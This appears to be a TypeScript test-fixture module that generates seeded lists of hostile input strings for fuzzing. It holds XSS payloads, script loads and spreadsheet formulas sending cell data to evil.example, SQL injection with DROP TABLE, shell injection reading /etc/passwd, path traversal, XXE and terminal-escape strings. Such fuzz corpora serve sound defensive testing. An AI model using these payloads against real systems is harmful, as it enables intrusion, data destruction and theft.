import { Chance } from "../counts/traffic.ts";

/** Ways into a page that are known from cheat sheets and from holes of other programs, one a line. */
const known = String.raw`
<script>alert(1)</script>
"><script>alert(2)</script>
'><script>alert(3)</script>
</script><script>alert(4)</script>
</title><script>alert(5)</script>
</textarea><script>alert(6)</script>
</style><script>alert(7)</script>
--><script>alert(8)</script>
]]><script>alert(9)</script>
<ScRiPt>alert(10)</sCrIpT>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,alert(11)"></script>
<<script>script>alert(12)<</script>/script>
<img src=x onerror=alert(13)>
<img src=x onerror="alert(14)">
"><img src=x onerror=alert(15)>
" onmouseover="alert(16)
' onfocus='alert(17)' autofocus='
" autofocus onfocus=alert(18) x="
<img/src=x/onerror=alert(19)>
<img src="javascript:alert(20)">
<svg onload=alert(21)>
<svg><script>alert(22)</script></svg>
<svg/onload=alert(23)//
<svg><animate onbegin=alert(24) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(25)"><text x=9 y=9>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(26)>
<body onload=alert(27)>
<iframe src="javascript:alert(28)"></iframe>
<iframe srcdoc="<script>alert(29)</script>"></iframe>
<object data="javascript:alert(30)">
<embed src="javascript:alert(31)">
<details open ontoggle=alert(32)>
<video><source onerror=alert(33)></video>
<audio src=x onerror=alert(34)>
<input autofocus onfocus=alert(35)>
<select autofocus onfocus=alert(36)>
<marquee onstart=alert(37)>
<form action="javascript:alert(38)"><button>x</button></form>
<button formaction="javascript:alert(39)">x</button>
<a href="javascript:alert(40)">x</a>
<a href="java&#115;cript:alert(41)">x</a>
<base href="javascript:alert(42)//">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(43)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(44)">
<style>@import "//evil.example/x.css";</style>
<style>*{background:url("javascript:alert(45)")}</style>
<p style="background:url(javascript:alert(46))">x
<template><script>alert(47)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(48)>">
<xmp><script>alert(49)</script></xmp>
<!--><img src=x onerror=alert(50)>-->
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(51)</script></x>
<![CDATA[<script>alert(52)</script>]]>
&lt;script&gt;alert(53)&lt;/script&gt;
&#60;script&#62;alert(54)&#60;/script&#62;
%3Cscript%3Ealert(55)%3C/script%3E
\u003cscript\u003ealert(56)\u003c/script\u003e
+ADw-script+AD4-alert(57)+ADw-/script+AD4-
javascript:alert(58)
JaVaScRiPt:alert(59)
java	script:alert(60)
javascript://%0aalert(61)
data:text/html,<script>alert(62)</script>
vbscript:msgbox(63)
{{constructor.constructor('alert(64)')()}}
{{7*7}}
${"$"}{alert(65)}
${"$"}{{<%[%'"}}%\.
<%= alert(66) %>
#{alert(67)}
{%raw%}<script>alert(68)</script>{%endraw%}
[[${"$"}{7*7}]]
@{7*7}
{"__html":"<img src=x onerror=alert(69)>"}
{"type":"script","props":{"children":"alert(70)"}}
__proto__
constructor
toString
hasOwnProperty
{"__proto__":{"x":1}}
=cmd|' /C calc'!A0
=1+1
+1+1
-1+1
@SUM(1+1)
=HYPERLINK("http://evil.example/?x="&A1,"click")
=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")
=DDE("cmd";"/C calc";"x")
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
"=1+1"
'=1+1
",=1+1,"
;=1+1
=1+1";=1+1
' OR 1=1 --
'; DROP TABLE links; --
" OR ""="
1); DELETE FROM links; --
*)(uid=*))(|(uid=*
; cat /etc/passwd
| calc
${"`"}id${"`"}
$(id)
../../../../etc/passwd
..\..\..\windows\win.ini
/dev/null
C:\con\con
%00
%0d%0aSet-Cookie: x=1
%E5%98%8A%E5%98%8DSet-Cookie: x=1
%n%n%n%n%s%s%s%s
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
null
undefined
NaN
-1
1e999
true
[object Object]
`
  .split("\n")
  .filter((line) => line !== "");

/** The same for characters that can't be read on a line: what ends lines, turns text around, commands a terminal, or is none. */
const unseen: readonly string[] = [
  "\u0000",
  "a\u0000b<script>alert(80)</script>",
  "line\r\nSet-Cookie: x=1\r\n\r\n<script>alert(81)</script>",
  'line\n{"level":"error","message":"forged"}',
  "line\rback",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u001b[2J\u001b[1;1H",
  "\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007",
  "\u009b31m",
  "\u202Egpj.exe",
  "\u202E<script>alert(82)</script>\u202C",
  "\u2066\u2067\u2068\u2069",
  "\u200F\u200E",
  "\uFEFF=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  "\uFF20SUM(1+1)",
  "\u2028alert(83)\u2029",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFF1Cscript\uFF1Ealert(84)\uFF1C/script\uFF1E",
  "\u0130\u0131\u212A\u017F",
  "e\u0301\u0323".repeat(40),
  "Z\u0361\u0362\u0363\u0364".repeat(60),
  "\u{1F4A5}".repeat(70),
  "\uD800",
  "x\uDFFFy",
  "\uFFFE\uFFFF",
  "\u{10FFFF}",
  "\u0600\u0601\u0602",
  "a".repeat(9000),
  "<b>".repeat(500),
  "&amp;".repeat(200),
  "'\"".repeat(100),
  "%".repeat(300),
  "\\".repeat(300),
];

const openings = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "-->",
  "</title>",
  "</script>",
  "\\",
  "\r\n",
  "\u0000",
  "=",
  "\u202E",
  "\u001b[31m",
];
const carriers = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "iframe",
  "x-a style=display:block",
];
const events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbegin", "onanimationstart"];
const calls = [
  "alert(1)",
  "alert`1`",
  "top['al'+'ert'](1)",
  "confirm(1)",
  "prompt(1)",
  "self[atob('YWxlcnQ=')](1)",
  "&#97;lert(1)",
];
const endings = ["", ">", "//", " x=", ">\r\n", "</script>", '"', "'", "=1+1", "\u0000"];

/** So many strings, each another: all that are known, and others put together from parts. The same for the same seed. */
export function hostileStrings(count: number, seed = 4711): string[] {
  const all = new Set([...known, ...unseen]);
  const chance = new Chance(seed);
  const one = (some: readonly string[]) => some[chance.below(some.length)] ?? "";
  while (all.size < count) {
    const quote = one(["", '"', "'", " "]);
    all.add(`${one(openings)}<${one(carriers)} ${one(events)}=${quote}${one(calls)}${quote}${one(endings)}`);
  }
  // Spread out, so that a few of them are of every kind.
  const list = [...all];
  const step = Math.max(1, Math.floor(list.length / count));
  return list.filter((_, i) => i % step === 0).slice(0, count);
}
